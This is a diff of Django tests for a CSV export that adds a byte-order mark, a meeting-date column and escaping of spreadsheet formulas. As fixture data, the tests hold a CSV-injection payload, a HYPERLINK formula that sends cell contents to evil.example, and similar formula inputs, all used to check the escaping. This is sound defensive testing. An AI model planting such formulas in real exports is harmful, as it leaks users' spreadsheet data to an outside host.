@@ -1,3 +1,4 @@
+import codecs
 import csv
 import datetime
 import io
@@ -7,6 +8,7 @@ from django.db import connection
 from django.urls import reverse
 from django.utils import timezone
 
+from people.exports import safe_cell
 from people.periods import years
 from tests.factories import (
     AreaFactory,
@@ -50,7 +52,7 @@ def test_csv_download(client):
     response = client.get(reverse("indicators:csv", args=[indicator.slug]))
 
     assert response["Content-Type"] == "text/csv; charset=utf-8"
-    rows = list(csv.reader(io.StringIO(response.getvalue().decode())))
+    rows = csv_rows(response)
     assert len(rows) == 2
     assert rows[1][5] == "954964" and rows[1][6] == "tỷ đồng"
 
@@ -66,7 +68,7 @@ def test_hostile_names_are_escaped_in_the_table_and_the_svg(client):
     value = ReportedValueFactory(
         indicator=IndicatorFactory(name=hostile), area=AreaFactory(name=hostile)
     )
-    # Saving strips the markup; write it raw as well, to prove the page escapes what slips past.
+    # Saving keeps the text as typed; write it raw as well, as any other path to the table might.
     with connection.cursor() as cursor:
         cursor.execute("UPDATE people_area SET name = %s WHERE id = %s", [hostile, value.area_id])
     html = client.get(value.indicator.get_absolute_url()).content.decode()
@@ -90,8 +92,11 @@ def page(client, indicator, **params):
 
 
 def csv_rows(response):
+    """The rows of a CSV response, which must open with a UTF-8 byte-order mark."""
     assert response.streaming
-    return list(csv.reader(io.StringIO(response.getvalue().decode())))
+    content = response.getvalue()
+    assert content.startswith(codecs.BOM_UTF8)
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
 
 
 def bar_labels(response):
@@ -340,6 +345,7 @@ def test_the_csv_honours_the_filters_with_the_same_columns(client, provinces):
         "rank",
         "resolution",
         "meeting_url",
+        "meeting_date",
         "source_sentence",
     ]
     assert everything[0] == filtered[0] == header
@@ -361,7 +367,7 @@ def test_the_csv_streams_every_matching_row(client, monkeypatch):
 
     chunks = list(response.streaming_content)
     assert len(chunks) == 5  # 31 lines in chunks of 7
-    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode())))
+    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
     assert [row[9] for row in rows[1:]] == [
         f"http://testserver{value.meeting.get_absolute_url()}" for value in values
     ]
@@ -442,3 +448,51 @@ def test_a_bad_filter_costs_two_queries(client, django_assert_num_queries, provi
     indicator, *_ = provinces
     with django_assert_num_queries(2):  # indicator, area choices
         assert page(client, indicator, year_from="x").status_code == 400
+
+
+# The CSV opens safely in a spreadsheet.
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+
+
+def test_the_csv_neutralises_formulas_and_carries_the_meeting_date(client):
+    indicator = IndicatorFactory(name=FORMULA)
+    meeting = MeetingFactory(date=datetime.date(2024, 5, 10), date_precision="day")
+    area = AreaFactory(name="@SUM(1+1)")
+    ReportedValueFactory(
+        indicator=indicator, meeting=meeting, area=area, value="-1.5", source_sentence=FORMULA
+    )
+    month = MeetingFactory(date=datetime.date(2023, 7, 1), date_precision="month")
+    ReportedValueFactory(indicator=indicator, meeting=month, area=area, value="-3.2", unit="-%")
+
+    header, *rows = csv_rows(client.get(reverse("indicators:csv", args=[indicator.slug])))
+
+    table = [dict(zip(header, row, strict=True)) for row in rows]
+    table.sort(key=lambda row: row["meeting_date"])
+    assert [row["meeting_date"] for row in table] == ["2023-07", "2024-05-10"]
+    assert {row["indicator"] for row in table} == {"'" + FORMULA}
+    assert {row["area"] for row in table} == {"'@SUM(1+1)"}
+    assert table[1]["source_sentence"] == "'" + FORMULA
+    assert [row["value"] for row in table] == ["-3.2", "-1.5"]  # plain numbers stay numbers
+    assert table[0]["unit"] == "'-%"
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+84 912", "'+84 912"),
+        ("-1,5", "-1,5"),
+        ("-3.2", "-3.2"),
+        ("+5", "+5"),
+        ("-", "'-"),
+        ("@user", "'@user"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("tỷ lệ =50%", "tỷ lệ =50%"),
+        (None, ""),
+        (12, "12"),
+    ],
+)
+def test_safe_cell(cell, written):
+    assert safe_cell(cell) == written
